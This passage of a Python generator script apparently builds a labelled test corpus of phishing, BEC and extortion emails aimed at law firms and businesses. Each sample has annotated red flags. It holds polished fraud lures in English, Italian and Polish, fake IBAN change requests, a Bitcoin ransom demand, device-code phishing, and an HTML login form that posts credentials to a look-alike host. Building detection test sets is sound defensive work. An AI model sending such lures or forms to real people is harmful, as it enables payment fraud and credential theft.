        Text("""<div dir="ltr">Hi Sarah,<br><br>Thanks for the signed TR1 and the completion statement - all in order on our side and we are ready to complete tomorrow.<br><br>Please note that our client account has changed following our move to a new banking provider earlier this month; our details on the Law Society&#39;s Find a Solicitor page will be updated shortly. Please disregard the account shown in our Completion Information form (TA13), which was issued before the change, and remit the balance of <b>GBP 612,450.00</b> to:<br><br>Account name: Harwood &amp; Lane Solicitors LLP - Client Account<br>Bank: ClearBank Ltd<br>Sort code: 04-00-75<br>Account no: 43817265<br>IBAN: %s<br><br>Could you please send the CHAPS reference once released so we can arrange key release with the agents.<br><br>Many thanks,<br>Emma<br><br><b>Emma Price</b><br>Senior Conveyancing Executive<br>Harwood &amp; Lane Solicitors LLP<br>T: 020 8940 2215<br><br><span style="font-size:10px;color:#888">Cybercrime warning: Harwood &amp; Lane will never notify you of changes to our bank details by email. If in doubt, please call us on a number you know to be correct.</span></div>
""" % fmt_iban(IB["gb_harwood_fake"]), "html", cs="UTF-8", cte="quoted-printable")], extra="gmail"),
    relay=rel)

# ---------------------------------------------------------------- A11
s = "11-en-gift-cards-partner-gmail"
mx, rel = gmail(s, "oliver.hughes@example.com", "wr1-f41", "209.85.221.41")
msg(A, s, "en", "UTF-8 / 7bit", "Gift-card BEC: 'London partner' from a Gmail address asks the office manager for Amazon gift-card codes",
    "Display name of the office head on an unknown Gmail address; unavailable by phone; secrecy; asks for photographed gift-card codes.",
    "oliver.hughes@example.com", "2026-11-30 12:14:09", "GMT", mx, "j.whitfield.solicitor@gmail.com",
    [("From", addr("James Whitfield", "j.whitfield.solicitor@gmail.com")),
     ("To", "oliver.hughes@example.com"),
     ("Subject", "Quick favour"),
     ("Date", "{DATE}"), ("Message-ID", mid_gmail(s)), ("MIME-Version", "1.0")],
    Text("""Oliver,

Are you at your desk? I'm stuck in a client meeting until late and can't take calls. I need you to sort something for me quickly - Amazon gift cards for the Meridian team, a thank-you we promised them after the completion. 10 x GBP 100.

Please pick them up today, scratch the backs and email me clear photos of the codes here. I'll get it reimbursed through accounts tomorrow. Keep it between us for now, it's meant to be a surprise.

Thanks
James

Sent from my iPhone
""", cs="UTF-8", cte="7bit"), relay=rel)

# ---------------------------------------------------------------- A12
s = "12-en-extortion-data-leak-bitcoin"
msg(A, s, "en", "UTF-8 / 7bit", "Data-leak extortion against the law firm with a Bitcoin (bech32) address",
    "Unverifiable breach claim targeting a law firm's confidentiality duty (threat to notify clients, SRA and ICO); payment demand in BTC to a valid bc1 address; sent from an anonymous Proton Mail account.",
    "james.whitfield@example.com", "2026-12-02 03:51:26", "UTC",
    ("mail-4316.protonmail.ch", "mail-4316.protonmail.ch", "185.70.43.16"), "silentledger@proton.me",
    [("From", addr("Silent Ledger", "silentledger@proton.me")),
     ("To", "james.whitfield@example.com"), ("Cc", "klaus.hoffmann@example.com"),
     ("Subject", "Example Group - client files - 72 hours"),
     ("Date", "{DATE}"), ("Message-ID", "<%s=@proton.me>" % base64.b64encode(bytes.fromhex(h(s, "p", n=48))).decode().replace("/", "_")),
     ("X-Pm-Origin", "internal"), ("X-Pm-Content-Encryption", "end-to-end"), ("MIME-Version", "1.0")],
    Text("""To the partners of Example Group,

For the last three weeks we have had access to your document management system and the London file server. We have copied 412 GB, including completion files, AML/KYC documents with client passports, M&A data-room exports and partner e-mail archives. A sample of folder names is below so you know this is not a bluff:

  \\\\LON-FS01\\Matters\\2026\\RE-0417 Elm Grove\\Completion\\
  \\\\LON-FS01\\Matters\\2026\\CORP-0932 Alder\\Data Room Export\\
  \\\\LON-FS01\\HR\\Payroll\\2026-10\\

We are not interested in damaging you. Pay 1.8 BTC to the address below within 72 hours and the data is deleted, with a deletion log provided.

  %s

If we do not see payment, we will contact every client named in these folders, send the material to the SRA and the ICO, and publish it on our site. Do not involve outside IR firms; we will know.

Silent Ledger
""" % BTC, cs="UTF-8", cte="7bit"))
MESSAGES[-1]["btc"] = BTC

# ---------------------------------------------------------------- A13
s = "13-en-ce-file-fake-filing-notice"
msg(A, s, "en", "UTF-8 / QP, multipart/alternative", "Fake CE-File (courts' e-filing) 'new document served' notice with credential link",
    "Sent by a PHP script on a compromised WordPress site (X-PHP-Originating-Script), from ce-file-notices.uk; link is a sub-domain trick (efile.cefile-app.com.case-view.io) leading to a fake login.",
    "sarah.collins@example.com", "2026-11-10 09:33:47", "GMT",
    ("vps-7f3e21.stackcp.net", "vps-7f3e21.stackcp.net", "77.72.1.214"), "wp_mailer@greenfield-dental.co.uk",
    [("From", addr("CE-File Notifications", "no-reply@ce-file-notices.uk")),
     ("To", "sarah.collins@example.com"),
     ("Subject", "CE-File: New document served - Claim No. BL-2026-000918"),
     ("Date", "{DATE}"), ("Message-ID", "<%s@greenfield-dental.co.uk>" % h(s, "wp", n=32)),
     ("X-Mailer", "PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)"),
     ("X-PHP-Originating-Script", "1014:class-wp-mail-smtp.php(241) : eval()'d code"), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""CE-File - The Business and Property Courts

A new document has been served on you as a registered party representative.

Case: BL-2026-000918  Thornbury Holdings Ltd v Meridian Estates Ltd
Document: Order - Case Management Conference (sealed)
Served: 10/11/2026 09:31

View the document: https://efile.cefile-app.com.case-view.io/login?c=BL-2026-000918

Please do not reply to this email.
""", cs="utf-8", cte="quoted-printable"),
        Text("""<html><body style="font-family:Arial;font-size:14px"><table style="border:1px solid #ccc" width="560" cellpadding="16"><tr><td>
<p style="background:#1d3557;color:#fff;padding:10px;margin:0">CE-File &ndash; The Business and Property Courts</p>
<p>A new document has been served on you as a registered party representative.</p>
<p>Case: <b>BL-2026-000918</b> &nbsp;Thornbury Holdings Ltd v Meridian Estates Ltd<br>Document: Order &ndash; Case Management Conference (sealed)<br>Served: 10/11/2026 09:31</p>
<p><a href="https://efile.cefile-app.com.case-view.io/login?c=BL-2026-000918&amp;u=sarah.collins%40example.com">View document in CE-File</a></p>
<p style="font-size:11px;color:#777">Please do not reply to this email.</p></td></tr></table></body></html>
""", "html", cs="utf-8", cte="quoted-printable")]),
    relay=["Received: from greenfield-dental.co.uk (localhost [127.0.0.1])\n\tby vps-7f3e21.stackcp.net (Postfix) with ESMTP id 8D4C2A1F03\n\tfor <sarah.collins@example.com>; {DATE}"])

# ---------------------------------------------------------------- A14
s = "14-en-device-code-phish-compromised-client"
mx, rel = o365(s, "02-AM0|am0eur02on2113", "40.107.22.113", pfx="DB9PR02MB")
msg(A, s, "en", "UTF-8 / QP, multipart/alternative", "OAuth device-code phishing from a compromised client mailbox ('enter this code at microsoft.com/devicelogin')",
    "Genuine client domain (compromised account) on genuine Microsoft infrastructure; the only link is the real microsoft.com/devicelogin, but the code is the attacker's - entering it grants the attacker tokens for the victim's account. No IOC-bearing URL, hence hard.",
    "julia.weber@example.com", "2026-11-25 11:06:40", "GMT", mx, "rebecca.lang@meridian-estates.co.uk",
    [("From", addr("Rebecca Lang", "rebecca.lang@meridian-estates.co.uk")),
     ("To", addr("Julia Weber", "julia.weber@example.com")),
     ("Subject", "Project Alder - access to the disclosure data room"),
     ("Thread-Topic", "Project Alder - access to the disclosure data room"),
     ("Date", "{DATE}"), ("Message-ID", mid_ol(s, "DB9PR02MB")), ("Content-Language", "en-GB"), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Dear Julia,

Ahead of Thursday's call we have moved the disclosure bundle for Project Alder into our Microsoft secure data room. As your firm sits on a different tenant, access is granted with a one-time device code rather than a guest invitation:

1. Go to https://microsoft.com/devicelogin
2. Enter the code HQ7RX4PLN
3. Sign in with your Example Group account when prompted.

The code is valid for 15 minutes from the time of this email; if it has expired just reply and I will issue a new one.

Best regards,
Rebecca

Rebecca Lang
Head of Legal | Meridian Estates Ltd
""", cs="utf-8", cte="quoted-printable"),
        Text("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><div style="font-family:Aptos,Calibri,sans-serif;font-size:11pt">
<p>Dear Julia,</p><p>Ahead of Thursday&#8217;s call we have moved the disclosure bundle for Project Alder into our Microsoft secure data room. As your firm sits on a different tenant, access is granted with a one-time device code rather than a guest invitation:</p>
<ol><li>Go to <a href="https://microsoft.com/devicelogin">https://microsoft.com/devicelogin</a></li><li>Enter the code <b style="font-family:Consolas">HQ7RX4PLN</b></li><li>Sign in with your Example Group account when prompted.</li></ol>
<p>The code is valid for 15 minutes from the time of this email; if it has expired just reply and I will issue a new one.</p>
<p>Best regards,<br>Rebecca</p><p><b>Rebecca Lang</b><br>Head of Legal | Meridian Estates Ltd</p></div></body></html>
""", "html", cs="utf-8", cte="quoted-printable")]),
    relay=rel)

# ---------------------------------------------------------------- A15
s = "15-en-docusign-lookalike-svg-attachment"
svg = ("""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200" viewBox="0 0 600 200">
<rect width="600" height="200" fill="#f4f4f4"/><text x="30" y="90" font-family="Arial" font-size="22" fill="#333">Loading secure document...</text>
<script type="application/ecmascript"><![CDATA[
// INERT TEST PLACEHOLDER - real samples redirect to a credential-harvesting page
var e = "klaus.hoffmann@example.com";
var u = "https://docsign-envelope.eu/v/" + btoa(e);
// window.location.href = u;  (disabled)
]]></script></svg>""").encode("utf-8")
msg(A, s, "en", "UTF-8 / QP HTML + SVG attachment", "DocuSign look-alike 'Completed: Settlement Agreement' with an SVG attachment carrying a script redirect",
    "Sender domain docusign-envelopes.net (not docusign.net) via Mailgun; SVG image files with embedded JavaScript are a 2024-26 filter-evasion trick; recipient address is embedded for the phishing kit.",
    "klaus.hoffmann@example.com", "2026-11-16 17:22:05", "UTC",
    ("m228-12.mailgun.net", "m228-12.mailgun.net", "159.135.228.12"),
    "bounce+%s.%s-klaus.hoffmann=example.com@mg.docusign-envelopes.net" % (h(s, "a", n=6), h(s, "b", n=6)),
    [("From", addr("Docusign via Harwood & Lane", "dse@docusign-envelopes.net")),
     ("Reply-To", "documents@docusign-envelopes.net"),
     ("To", "klaus.hoffmann@example.com"),
     ("Subject", "Completed: Settlement Agreement - Thornbury / Meridian - Ref 7741"),
     ("Date", "{DATE}"), ("Message-ID", "<%s.%s@mg.docusign-envelopes.net>" % (hnum(s, "t", n=14), h(s, "m", n=16))),
     ("X-Mailgun-Sid", base64.b64encode(h(s, "sid").encode()).decode()), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""<html><body style="background:#eaeaea;font-family:Helvetica,Arial"><table width="560" align="center" style="background:#fff"><tr><td style="padding:0">
<div style="background:#1e1e1e;color:#fff;padding:14px 24px;font-weight:bold">Docusign</div>
<div style="padding:24px"><p style="font-size:18px">Your document has been completed</p>
<p>All parties have signed <b>Settlement Agreement - Thornbury / Meridian</b>. A copy of the completed document is attached to this email for your records.</p>
<p>Open the attachment in your browser to view the signed copy.</p>
<p style="font-size:11px;color:#666">Do Not Share This Email. This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</p></div>
</td></tr></table></body></html>
""", "html", cs="utf-8", cte="quoted-printable"),
        Att(svg, "image/svg+xml", "Settlement_Agreement_Completed.svg")]))
# ---------------------------------------------------------------- A16
s = "16-it-ferretti-variazione-iban-lookalike"
msg(A, s, "it", "ISO-8859-15 / QP, multipart/alternative", "Supplier bank-detail change from look-alike ferreti-trasporti.it (one 't' missing)",
    "Genuine supplier is ferretti-trasporti.it; look-alike registered at a cheap hosting provider; new IBAN, 'old account no longer operational', request to update the supplier master data and confirm by reply.",
    "giulia.ricci@example.com", "2026-11-20 09:48:13", "CET",
    ("smtpdh17-2.aruba.it", "smtpdh17-2.aruba.it", "62.149.155.172"), "c.colombo@ferreti-trasporti.it",
    [("From", addr("Chiara Colombo", "c.colombo@ferreti-trasporti.it")),
     ("To", addr("Giulia Ricci", "giulia.ricci@example.com")),
     ("Subject", "Variazione coordinate bancarie - Ferretti Trasporti S.p.A."),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "ferreti-trasporti.it", "%s.%s.JavaMail.webmail")),
     ("X-Mailer", "Microsoft Outlook 16.0"), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Gentile Dott.ssa Ricci,

facendo seguito alla nostra fattura n. 2026/FT/1184 del 31/10/2026, Vi informiamo che, a seguito della riorganizzazione dei rapporti bancari del gruppo, a partire da oggi i pagamenti a nostro favore dovranno essere effettuati esclusivamente sul seguente conto corrente:

Intestatario: Ferretti Trasporti S.p.A.
Banca: Intesa Sanpaolo S.p.A. - Filiale di Milano
IBAN: %s
BIC: BCITITMM

Vi preghiamo di aggiornare la Vostra anagrafica fornitori e di darci conferma via e-mail dell'avvenuta modifica. Il precedente conto presso Banco BPM non è più operativo e gli accrediti verrebbero respinti.

Restiamo a disposizione per ogni chiarimento.

Cordiali saluti

Chiara Colombo
Ufficio Amministrazione
Ferretti Trasporti S.p.A.
Via Cassanese 210 - 20054 Segrate (MI)
""" % fmt_iban(IB["ferretti_fake"]), cs="iso-8859-15", cte="quoted-printable"),
        Text("""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-15"></head><body style="font-family:Calibri,sans-serif;font-size:11pt">
<p>Gentile Dott.ssa Ricci,</p>
<p>facendo seguito alla nostra fattura n. 2026/FT/1184 del 31/10/2026, Vi informiamo che, a seguito della riorganizzazione dei rapporti bancari del gruppo, a partire da oggi i pagamenti a nostro favore dovranno essere effettuati esclusivamente sul seguente conto corrente:</p>
<p>Intestatario: Ferretti Trasporti S.p.A.<br>Banca: Intesa Sanpaolo S.p.A. - Filiale di Milano<br>IBAN: <b>%s</b><br>BIC: BCITITMM</p>
<p>Vi preghiamo di aggiornare la Vostra anagrafica fornitori e di darci conferma via e-mail dell'avvenuta modifica. Il precedente conto presso Banco BPM non è più operativo e gli accrediti verrebbero respinti.</p>
<p>Restiamo a disposizione per ogni chiarimento.</p>
<p>Cordiali saluti</p>
<p><b>Chiara Colombo</b><br>Ufficio Amministrazione<br>Ferretti Trasporti S.p.A.<br>Via Cassanese 210 - 20054 Segrate (MI)</p></body></html>
""" % fmt_iban(IB["ferretti_fake"]), "html", cs="iso-8859-15", cte="quoted-printable")]),
    relay=["Received: from [10.0.4.18] ([151.38.102.77])\n\tby Aruba Outgoing Smtp with ESMTPSA\n\tid %s; {DATE}" % b32tok(s, "ar", n=14).lower()])

# ---------------------------------------------------------------- A17
s = "17-it-agenzia-entrate-allegato-html"
att17 = ("""<html><head><meta charset="utf-8"><title>Agenzia delle Entrate - Area riservata</title></head>
<body style="font-family:Titillium Web,Arial;background:#fff"><div style="background:#06c;color:#fff;padding:14px">Agenzia delle Entrate &middot; Area riservata</div>
<div style="width:380px;margin:40px auto"><h3>Accedi per visualizzare la comunicazione n. 0W2026-884571</h3>
<p>Entra con SPID, CIE o credenziali Fisconline/Entratel.</p>
<form method="post" action="https://areariservata-agenziaentrate.com/auth/sso.php">
<input name="cf" placeholder="Codice fiscale" style="width:100%"><br><input name="pw" type="password" placeholder="Password" style="width:100%"><br>
<input name="pin" placeholder="PIN" style="width:100%"><br><button>Accedi</button></form>
<!-- INERT TEST PLACEHOLDER - attack sample --></div></body></html>""").encode("utf-8")
msg(A, s, "it", "UTF-8 / base64 + HTML attachment", "Fake Agenzia delle Entrate 'comunicazione di irregolarità' with HTML login-form attachment",
    "The tax agency communicates via PEC/cassetto fiscale, not HTML attachments; sender domain agenziaentrate-comunicazioni.it is not agenziaentrate.it/.gov.it; the form posts Fisconline credentials to an external host; sent from an OVH VPS.",
    "giulia.ricci@example.com", "2026-11-03 10:15:22", "CET",
    ("agenziaentrate-comunicazioni.it", "vps-4d1f22a7.vps.ovh.net", "51.178.41.93"), "noreply@agenziaentrate-comunicazioni.it",
    [("From", addr("Agenzia delle Entrate", "noreply@agenziaentrate-comunicazioni.it")),
     ("To", "giulia.ricci@example.com"),
     ("Subject", ew("Comunicazione di irregolarità n. 0W2026-884571 - art. 36-bis D.P.R. 600/1973", "utf-8", "B")),
     ("Date", "{DATE}"), ("Message-ID", mid_dom(s, "agenziaentrate-comunicazioni.it")), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Gentile contribuente,

a seguito del controllo automatizzato della dichiarazione modello 770/2026 (periodo d'imposta 2025) sono emerse irregolarità nei versamenti delle ritenute, per un importo complessivo di euro 7.412,36 comprensivo di sanzioni e interessi.

La comunicazione completa, con il dettaglio degli importi e le modalità di regolarizzazione, è disponibile nel documento allegato. Ai sensi dell'art. 2 del D.Lgs. 462/1997 è possibile versare le somme dovute con sanzione ridotta entro 60 giorni dal ricevimento della presente.

Per visualizzare il documento è necessario autenticarsi con le proprie credenziali.

Agenzia delle Entrate
Direzione Provinciale di Milano
""", cs="utf-8", cte="base64"),
        Att(att17, "text/html", "Comunicazione_0W2026-884571.html")]))

# ---------------------------------------------------------------- A18
s = "18-it-ordine-avvocati-pagopa-falso"
msg(A, s, "it", "UTF-8 / QP, HTML only", "Fake Bar Association (Ordine degli Avvocati di Milano) dues reminder with fake pagoPA checkout",
    "Bulk-sent via Brevo from ordineavvocati-milano.org (the real Order uses ordineavvocatimilano.it); threatens suspension; link leads to a fake pagoPA card-payment page instead of checkout.pagopa.it.",
    "francesca.romano@example.com", "2026-11-27 12:03:51", "CET",
    ("smtp-relay.brevo.com", "s2-11.mailout.brevo.com", "185.41.28.114"), "bounces-%s@ordineavvocati-milano.org" % hnum(s, "b", n=9),
    [("From", addr("Ordine degli Avvocati di Milano", "segreteria@ordineavvocati-milano.org")),
     ("To", "francesca.romano@example.com"),
     ("Subject", ew("Sollecito contributo annuale 2026 – avviso pagoPA in scadenza", "utf-8", "Q")),
     ("Date", "{DATE}"), ("Message-ID", "<%s.%s@smtp-relay.mailin.fr>" % (hnum(s, "x", n=12), h(s, "y", n=10))),
     ("List-Unsubscribe", "<https://ordineavvocati-milano.org/unsubscribe?id=%s>" % h(s, "u", n=12)),
     ("MIME-Version", "1.0")],
    Text("""<html><body style="font-family:Georgia,serif;font-size:15px;color:#222">
<div style="max-width:600px;margin:auto"><p style="border-bottom:2px solid #7a0019;padding-bottom:8px;color:#7a0019;font-size:18px">Ordine degli Avvocati di Milano</p>
<p>Gentile Avv. Romano,</p>
<p>dai nostri registri risulta non ancora pervenuto il versamento del contributo annuale di iscrizione all'Albo per l'anno 2026 (euro 245,00).</p>
<p>Le ricordiamo che, ai sensi dell'art. 29 della L. 247/2012, il mancato pagamento del contributo può comportare l'avvio del procedimento di sospensione amministrativa.</p>
<p>Può regolarizzare la posizione entro il <b>4 dicembre 2026</b> tramite il circuito pagoPA:</p>
<p style="text-align:center"><a href="https://checkout-pagopa.ordineavvocati-milano.org/avviso?iuv=302026000184471&amp;cf=RMNFNC" style="background:#0066cc;color:#fff;padding:10px 20px;text-decoration:none">Paga con pagoPA</a></p>
<p>Codice avviso: 3020 2600 0184 4712<br>Ente creditore: Ordine degli Avvocati di Milano</p>
<p>Cordiali saluti<br>La Segreteria</p>
<p style="font-size:11px;color:#888">Via Freguglia 1 - 20122 Milano</p></div></body></html>
""", "html", cs="utf-8", cte="quoted-printable"))

# ---------------------------------------------------------------- A19
s = "19-it-pct-esito-deposito-zip"
msg(A, s, "it", "ISO-8859-1 / 8bit + ZIP", "Malware dropper disguised as PCT (processo civile telematico) filing receipt, sent from a compromised law-office mailbox",
    "Real PCT receipts arrive by PEC as signed XML/EML, not ZIP; sending domain belongs to a compromised small law practice on a shared host; ZIP contains a .vbs (inert placeholder).",
    "francesca.romano@example.com", "2026-11-11 16:40:02", "CET",
    ("webmail.studiolegalemarchetti.it", "host21-114-static.54-79-b.business.telecomitalia.it", "79.54.114.21"),
    "segreteria@studiolegalemarchetti.it",
    [("From", addr("Studio Legale Marchetti", "segreteria@studiolegalemarchetti.it")),
     ("To", "francesca.romano@example.com"),
     ("Subject", "I: ESITO CONTROLLI AUTOMATICI DEPOSITO - R.G. 18342/2026 Tribunale di Milano"),
     ("Date", "{DATE}"), ("Message-ID", "<%s@studiolegalemarchetti.it>" % h(s, "rc", n=32)),
     ("User-Agent", "Roundcube Webmail/1.6.9"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Buongiorno Avvocato,

Le inoltriamo l'esito dei controlli automatici relativo al deposito nel procedimento R.G. 18342/2026 (Tribunale di Milano, Sez. VI civile), nel quale il Vostro Studio risulta costituito per la parte convenuta.

Il deposito contiene anche l'istanza di anticipazione dell'udienza: La preghiamo di prenderne visione al più presto.

Per ragioni di dimensione gli atti sono stati compressi nell'archivio allegato.

Cordiali saluti

Segreteria - Studio Legale Marchetti
Corso di Porta Vittoria 18 - Milano
""", cs="iso-8859-1", cte="8bit"),
        Att(zipf([("Esito_deposito_RG_18342_2026.pdf.vbs", ("' " + INERT.replace("\n// ", "\n' ").replace("// ", "")).encode())]),
            "application/zip", "Esito_deposito_RG_18342_2026.zip")]),
    relay=["Received: from 93-41-207-118.ip79.fastwebnet.it (93.41.207.118)\n\tby webmail.studiolegalemarchetti.it with HTTP (Roundcube); {DATE}"])

# ---------------------------------------------------------------- A20
s = "20-it-aruba-pec-scadenza-phish"
msg(A, s, "it", "UTF-8 / QP, multipart/alternative", "Fake Aruba PEC 'mailbox expiring - renew now' credential/card lure",
    "Aruba brand, but From domain aruba-pec-servizi.com and link to a Cloudflare pages.dev clone; sent from a compromised mailbox on a residential Fastweb line; expiry pressure.",
    "luca.bianchi@example.com", "2026-11-04 07:55:39", "CET",
    ("localhost", "93-63-118-204.ip26.fastwebnet.it", "93.63.118.204"), "comunicazioni@aruba-pec-servizi.com",
    [("From", addr("Aruba PEC", "comunicazioni@aruba-pec-servizi.com")),
     ("To", "luca.bianchi@example.com"),
     ("Subject", "La tua casella PEC luca.bianchi@pec.example.com scade il 06/11/2026"),
     ("Date", "{DATE}"), ("Message-ID", mid_uuid(s, "aruba-pec-servizi.com")), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Gentile Cliente,

la casella di Posta Elettronica Certificata luca.bianchi@pec.example.com scadrà il 06/11/2026.

Dopo la scadenza la casella verrà sospesa e non potrai più inviare né ricevere messaggi PEC con valore legale, comprese le notifiche telematiche degli atti.

Rinnova ora: https://rinnovo-aruba-pec.pages.dev/?c=luca.bianchi

Cordiali saluti
Aruba PEC S.p.A.
""", cs="utf-8", cte="quoted-printable"),
        Text("""<html><body style="font-family:Arial;font-size:14px;background:#f6f6f6"><div style="max-width:580px;margin:auto;background:#fff;padding:24px">
<p style="color:#f60;font-size:22px;font-weight:bold;margin:0">aruba<span style="color:#333">.it</span> PEC</p>
<p>Gentile Cliente,</p><p>la casella di Posta Elettronica Certificata <b>luca.bianchi@pec.example.com</b> scadrà il <b>06/11/2026</b>.</p>
<p>Dopo la scadenza la casella verrà sospesa e non potrai più inviare né ricevere messaggi PEC con valore legale, comprese le notifiche telematiche degli atti.</p>
<p><a href="https://rinnovo-aruba-pec.pages.dev/?c=luca.bianchi" style="background:#f60;color:#fff;padding:10px 24px;text-decoration:none;border-radius:4px">Rinnova ora</a></p>
<p>Cordiali saluti<br>Aruba PEC S.p.A.</p></div></body></html>
""", "html", cs="utf-8", cte="quoted-printable")]),
    delay=4)
# ---------------------------------------------------------------- A21
s = "21-pl-partner-logistik-zmiana-rachunku-lookalike"
msg(A, s, "pl", "ISO-8859-2 / QP + PDF", "Supplier bank-account change from look-alike partner-logistik.com.pl, pre-empting the VAT 'white list' check",
    "Genuine supplier domain is partner-logistik.pl; look-alike .com.pl on an OVH VPS; new account 'already reported to the white list, update may take 3 days' (defeats the standard Polish verification); pays a specific open invoice.",
    "katarzyna.kowalczyk@examplegroup.eu", "2026-11-16 13:07:45", "CET",
    ("mail.partner-logistik.com.pl", "ns3193217.ip-51-68-141.eu", "51.68.141.209"), "t.zielinski@partner-logistik.com.pl",
    [("From", addr("Tadeusz Zieliński", "t.zielinski@partner-logistik.com.pl", "iso-8859-2", "Q")),
     ("To", addr("Katarzyna Kowalczyk", "katarzyna.kowalczyk@examplegroup.eu")),
     ("Subject", ew("Zmiana rachunku bankowego - Partner Logistik sp. z o.o.", "iso-8859-2", "Q")),
     ("Date", "{DATE}"), ("Message-ID", "<000b01db%s$%s$%s@partner-logistik.com.pl>" % (h(s, 1, n=8), h(s, 2, n=8), h(s, 3, n=8))),
     ("X-Mailer", "Microsoft Outlook 16.0"), ("Thread-Index", "Adt" + base64.b64encode(bytes.fromhex(h(s, "t", n=26))).decode()),
     ("Content-Language", "pl"), ("MIME-Version", "1.0")],
    Multi("mixed", [
        Text("""Szanowna Pani,

uprzejmie informujemy, że w związku ze zmianą banku obsługującego naszą spółkę od dnia 16.11.2026 r. wszelkie płatności na rzecz Partner Logistik sp. z o.o. prosimy kierować na nowy rachunek:

Santander Bank Polska S.A.
%s

Rachunek został zgłoszony do wykazu podatników VAT (biała lista); aktualizacja wykazu po stronie KAS może potrwać do 3 dni roboczych, dlatego prosimy nie wstrzymywać płatności z tego powodu.

Jednocześnie prosimy o uregulowanie faktury FV/2026/10/0342 na kwotę 18 450,00 zł na nowy rachunek. W załączeniu przesyłamy pismo podpisane przez Zarząd.

Z poważaniem
Tadeusz Zieliński
Dyrektor Finansowy
Partner Logistik sp. z o.o.
ul. Annopol 4A, 03-236 Warszawa
""" % fmt_iban(IB["pl_fake"]), cs="iso-8859-2", cte="quoted-printable"),
        Att(pdf(["Partner Logistik sp. z o.o., ul. Annopol 4A, 03-236 Warszawa", "",
                 "Informacja o zmianie rachunku bankowego", "Nowy rachunek: " + fmt_iban(IB["pl_fake"]),
                 "Santander Bank Polska S.A.", "", "Zarzad", "[PLACEHOLDER - attack sample]"], "Zmiana rachunku"),
            "application/pdf", "Zmiana_rachunku_Partner_Logistik.pdf")]))

# ---------------------------------------------------------------- A22
s = "22-pl-ksef-faktura-do-weryfikacji"
msg(A, s, "pl", "UTF-8 / base64 HTML + text (multipart/alternative)", "Fake KSeF (National e-Invoice System) notification asking to log in to 'verify' an invoice",
    "KSeF does not send e-mails about invoices received and has no buyer acceptance step; sent via Mailjet from ksef-powiadomienia.pl (not mf.gov.pl); link to ksef-mf.pl.weryfikacja-faktur.com demanding Profil Zaufany/bank login; abuses the 2026 KSeF roll-out.",
    "katarzyna.kowalczyk@examplegroup.eu", "2026-11-19 08:31:14", "CET",
    ("o227.p8.mailjet.com", "o227.p8.mailjet.com", "87.253.233.227"), "bnc3.mailjet.%s@bnc3.mailjet.com" % h(s, "mj", n=12),
    [("From", addr("Krajowy System e-Faktur", "powiadomienia@ksef-powiadomienia.pl")),
     ("To", "katarzyna.kowalczyk@examplegroup.eu"),
     ("Subject", ew("KSeF: faktura 5262884416-20261118-8F21C4D07A13-6B oczekuje na weryfikację nabywcy", "utf-8", "B")),
     ("Date", "{DATE}"), ("Message-ID", "<%s.%s@mailjet.com>" % (h(s, "a", n=8), hnum(s, "b", n=9))),
     ("X-Mailjet-Campaign", hnum(s, "c", n=10)), ("MIME-Version", "1.0")],
    Multi("alternative", [
        Text("""Szanowni Państwo,

w Krajowym Systemie e-Faktur wystawiono fakturę ustrukturyzowaną, w której Państwa podmiot (NIP 5252918473) występuje jako nabywca.

Numer KSeF: 5262884416-20261118-8F21C4D07A13-6B
Wystawca: ELMAX Serwis sp. z o.o.
Kwota brutto: 27 306,00 PLN

Faktura oczekuje na weryfikację nabywcy. Brak weryfikacji w ciągu 7 dni skutkuje automatycznym zaksięgowaniem dokumentu.

Pobierz i zweryfikuj fakturę: https://ksef-mf.pl.weryfikacja-faktur.com/web/faktura?nr=8F21C4D07A13

Ministerstwo Finansów
""", cs="utf-8", cte="base64"),
        Text("""<html><body style="font-family:Arial;font-size:14px"><div style="max-width:600px;margin:auto;border:1px solid #d0d0d0">
<div style="background:#dc1e35;color:#fff;padding:12px 20px;font-weight:bold">Krajowy System e-Faktur &middot; Ministerstwo Finansów</div>
<div style="padding:20px"><p>Szanowni Państwo,</p><p>w Krajowym Systemie e-Faktur wystawiono fakturę ustrukturyzowaną, w której Państwa podmiot (NIP 5252918473) występuje jako nabywca.</p>
<table cellpadding="4"><tr><td>Numer KSeF:</td><td><b>5262884416-20261118-8F21C4D07A13-6B</b></td></tr><tr><td>Wystawca:</td><td>ELMAX Serwis sp. z o.o.</td></tr><tr><td>Kwota brutto:</td><td>27 306,00 PLN</td></tr></table>
<p>Faktura oczekuje na weryfikację nabywcy. Brak weryfikacji w ciągu 7 dni skutkuje automatycznym zaksięgowaniem dokumentu.</p>
<p><a href="https://ksef-mf.pl.weryfikacja-faktur.com/web/faktura?nr=8F21C4D07A13" style="background:#dc1e35;color:#fff;padding:10px 18px;text-decoration:none">Pobierz i zweryfikuj fakturę</a></p>
<p style="font-size:12px;color:#666">Logowanie: Profil Zaufany, e-dowód lub bankowość elektroniczna.</p></div></div></body></html>
""", "html", cs="utf-8", cte="base64")]))

# ---------------------------------------------------------------- A23
s = "23-pl-e-doreczenia-falszywe-powiadomienie"
msg(A, s, "pl", "windows-1250 / QP, multipart/alternative", "Fake e-Doręczenia (public e-delivery) notice of a court letter, leading to a fake login.gov.pl",
    "Sent from a compromised small-business mailbox on shared hosting (cyber-folks) with display name 'e-Doręczenia'; link to edoreczenia.gov.pl.skrzynka-odbiorcza.info (sub-domain trick) harvesting Profil Zaufany/bank credentials; 14-day 'deemed served' pressure.",
    "piotr.wisniewski@example.com", "2026-11-24 09:12:05", "CET",
    ("s108.cyber-folks.pl", "s108.cyber-folks.pl", "195.78.67.108"), "biuro@stolarnia-kowalik.pl",
    [("From", addr("e-Doręczenia", "biuro@stolarnia-kowalik.pl", "windows-1250", "Q")),
     ("Reply-To", "no-reply@edoreczenia-powiadomienia.pl"),
     ("To", "piotr.wisniewski@example.com"),
